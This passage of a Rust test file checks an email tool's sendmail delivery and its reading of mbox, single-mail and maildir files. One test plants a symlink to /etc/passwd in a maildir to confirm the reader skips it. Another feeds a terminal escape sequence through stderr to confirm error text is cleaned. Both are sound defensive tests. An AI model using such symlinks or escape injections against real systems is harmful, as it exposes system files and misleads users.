    Mailer::Sendmail(SendmailConfig { command, timeout: Duration::from_secs(5) })
}

#[test]
fn a_sendmail_command_takes_the_mail_or_says_why_not() {
    let dir = support::folder();
    let out = dir.path().join("out");
    let save = format!("cat > {0}; echo \"$@\" > {0}.args", out.display());
    assert!(matches!(shell(&save, &[]).send(&answer_mail()), Delivery::Sent { .. }));
    let expected = String::from_utf8(answer_mail().bytes).unwrap().replace("\r\n", "\n");
    assert_eq!(std::fs::read_to_string(&out).unwrap(), expected);
    let arguments = || std::fs::read_to_string(dir.path().join("out.args")).unwrap();
    assert_eq!(arguments(), "-- finder@example.net second@example.net\n");
    assert!(matches!(shell(&save, &["-t"]).send(&answer_mail()), Delivery::Sent { .. }));
    assert_eq!(arguments(), "-t\n");
    for (script, permanent) in
        [("cat >/dev/null; printf '\\033[2Jno such user' >&2; exit 67", true), ("exit 75", false), ("exit 1", false)]
    {
        match shell(script, &["-t"]).send(&answer_mail()) {
            Delivery::NotSent { reason, permanent: p } => {
                assert!(p == permanent && !reason.contains('\x1b'), "{script}: {reason}")
            }
            other => panic!("{script}: {other:?}"),
        }
    }
    for script in ["cat >/dev/null; exit 74", "kill -9 $$", "sleep 30"] {
        let mut mailer = shell(script, &["-t"]);
        if let Mailer::Sendmail(config) = &mut mailer {
            config.timeout = Duration::from_millis(500);
        }
        assert!(matches!(mailer.send(&answer_mail()), Delivery::Unknown { .. }), "{script}");
    }
    let nobody = Mailer::Sendmail(SendmailConfig {
        command: vec!["/nonexistent/msmtp".into()],
        timeout: Duration::from_secs(1),
    });
    assert!(matches!(nobody.send(&answer_mail()), Delivery::NotSent { permanent: false, .. }));
    assert!(nobody.probe().is_err());
    let big = OutgoingBytes {
        bytes: [b"A: b\r\n\r\n".to_vec(), b"0123456789\r\n".repeat(1 << 20)].concat(),
        ..answer_mail()
    };
    assert!(matches!(shell("exit 0", &["-t"]).send(&big), Delivery::Unknown { .. }), "it did not read the mail");
}

// Files.

fn read_file(path: &Path, limits: &Limits) -> (Store, Result<Summary, WireError>) {
    let mut store = Store::default();
    let outcome = files::read(path, Direction::In, limits, &mut store, &mut |_| ());
    (store, outcome)
}

/// Each case under fixtures/files is a source with a `.toml` beside it that says what comes out. mbox and single mails run
/// with both line endings.
#[test]
fn fixtures_give_what_they_say() {
    #[derive(serde::Deserialize)]
    #[serde(deny_unknown_fields)]
    struct Case {
        /// A part of the error.
        error: Option<String>,
        #[serde(default)]
        mail: Vec<Expected>,
    }
    #[derive(serde::Deserialize)]
    #[serde(deny_unknown_fields)]
    struct Expected {
        key: String,
        /// LF ends.
        raw: String,
        received_at: Option<jiff::Timestamp>,
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("fixtures/files");
    let mut cases = 0;
    for entry in
        std::fs::read_dir(&root).unwrap().flatten().filter(|e| e.path().extension().is_some_and(|x| x == "toml"))
    {
        let name = entry.path().with_extension("");
        let case: Case = toml::from_str(&std::fs::read_to_string(entry.path()).unwrap()).unwrap();
        for crlf in [false, true] {
            let dir = support::folder();
            let source = dir.path().join("source");
            copy(&name, &source, crlf);
            let (store, outcome) = read_file(&source, &Limits::default());
            cases += 1;
            if let Some(words) = &case.error {
                let error = error_of(outcome);
                assert!(error.contains(words) && error.contains("source"), "{}: {error}", name.display());
                continue;
            }
            outcome.unwrap_or_else(|e| panic!("{}: {e}", name.display()));
            assert_eq!(store.mail.len(), case.mail.len(), "{}", name.display());
            for (mail, expected) in store.mail.iter().zip(&case.mail) {
                let raw = if crlf { expected.raw.replace('\n', "\r\n") } else { expected.raw.clone() };
                assert_eq!(String::from_utf8_lossy(&mail.raw), raw, "{} {}", name.display(), expected.key);
                if !crlf {
                    assert_eq!(mail.sighting.key, expected.key, "{}", name.display());
                }
                if expected.received_at.is_some() {
                    assert_eq!(mail.received_at, expected.received_at, "{} {}", name.display(), expected.key);
                }
                assert!(mail.received_at.is_some() && mail.sighting.epoch == 0);
            }
        }
    }
    assert!(cases >= 16, "only {cases} runs found");
}

fn copy(from: &Path, to: &Path, crlf: bool) {
    if from.is_dir() {
        std::fs::create_dir(to).unwrap();
        for entry in std::fs::read_dir(from).unwrap().flatten() {
            copy(&entry.path(), &to.join(entry.file_name()), crlf);
        }
    } else {
        let text = std::fs::read_to_string(from).unwrap();
        std::fs::write(to, if crlf { text.replace('\n', "\r\n") } else { text }).unwrap();
    }
}

#[test]
fn a_maildir_is_read_once_and_never_changed() {
    let dir = support::folder();
    for part in ["new", "cur", "tmp"] {
        std::fs::create_dir(dir.path().join(part)).unwrap();
    }
    std::fs::write(dir.path().join("new/1.M1.host"), report(1)).unwrap();
    std::fs::write(dir.path().join("cur/2.M2.host:2,FS"), report(2)).unwrap();
    std::fs::write(dir.path().join("tmp/3.M3.host"), report(3)).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", dir.path().join("new/4.M4.host")).unwrap();
    let listing = || {
        let mut all: Vec<_> = ["new", "cur", "tmp"]
            .iter()
            .flat_map(|p| std::fs::read_dir(dir.path().join(p)).unwrap().flatten())
            .map(|e| (e.path(), e.metadata().unwrap().modified().unwrap()))
            .collect();
        all.sort();
        all
    };
    let before = listing();
    let (mut store, outcome) = read_file(dir.path(), &Limits::default());
    let summary = outcome.unwrap();
    assert_eq!((summary.seen, summary.warnings.len()), (2, 1), "{summary:?}");
    assert_eq!(listing(), before);
    let keys: Vec<&str> = store.mail.iter().map(|m| m.sighting.key.as_str()).collect();
    assert_eq!(keys, ["1.M1.host", "2.M2.host"]);
    // Read by a person: the flag changes, the mail does not.
    std::fs::rename(dir.path().join("new/1.M1.host"), dir.path().join("cur/1.M1.host:2,S")).unwrap();
    std::fs::write(dir.path().join("new/5.M5.host"), report(5)).unwrap();
    let again = files::read(dir.path(), Direction::In, &Limits::default(), &mut store, &mut |_| ()).unwrap();
    assert_eq!(again.seen, 1);
    assert_eq!(store.mail.last().unwrap().raw, report(5));
}

#[test]
fn a_long_mbox_and_a_long_line_need_little_memory() {
    use std::io::Write as _;
    let dir = support::folder();
    let path = dir.path().join("big.mbox");
    let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    let from = b"From a@example.org Fri Nov 20 10:00:00 2026\n";
    for size in [10usize, 30 << 20, 20] {
        file.write_all(from).unwrap();
        file.write_all(b"Subject: x\n\n").unwrap();
        for _ in 0..size.div_ceil(1 << 16) {
            file.write_all(&vec![b'x'; size.min(1 << 16)]).unwrap();
        }
        file.write_all(b"\n\n").unwrap();
    }
    drop(file);
    let limits = Limits { message: 1 << 20, beginning: 1 << 10, batch_bytes: 2 << 20, batch_count: 2 };
    let (store, outcome) = read_file(&path, &limits);
    outcome.unwrap();
    let sizes: Vec<(usize, Option<u64>)> = store.mail.iter().map(|m| (m.raw.len(), m.truncated)).collect();
    assert_eq!(sizes, [(23, None), (1 << 10, Some((30 << 20) + 14)), (33, None)]);
}

#[test]
fn only_plain_files_and_folders_are_read() {
    let dir = support::folder();
    let mail = dir.path().join("mail.eml");
    std::fs::write(&mail, report(1)).unwrap();
    let link = dir.path().join("link.eml");
    std::os::unix::fs::symlink(&mail, &link).unwrap();
    let pipe = dir.path().join("pipe.eml");
    assert!(std::process::Command::new("mkfifo").arg(&pipe).status().unwrap().success());
    let empty = dir.path().join("empty.eml");
    std::fs::write(&empty, "").unwrap();
    for (path, words) in [
        (link.as_path(), "symbolic link"),
        (pipe.as_path(), "neither a plain file nor a folder"),
        (empty.as_path(), "empty"),
        (&dir.path().join("missing.eml"), "no such file"),
        (Path::new("/dev/null"), "neither a plain file nor a folder"),
    ] {
        let error = error_of(read_file(path, &Limits::default()).1);
        assert!(error.contains(words) && error.contains(path.to_str().unwrap()), "{error}");
    }
    let mut store = Store::default();
    let now = "2026-11-20T10:00:00Z".parse().unwrap();
    let limits = Limits::default();
    files::read_stream(&mut &report(1)[..], now, Direction::In, &limits, &mut store).unwrap();
    assert_eq!((store.mail[0].raw.clone(), store.mail[0].received_at), (report(1), Some(now)));
    assert!(files::read_stream(&mut &b""[..], now, Direction::In, &limits, &mut store).is_err());
}
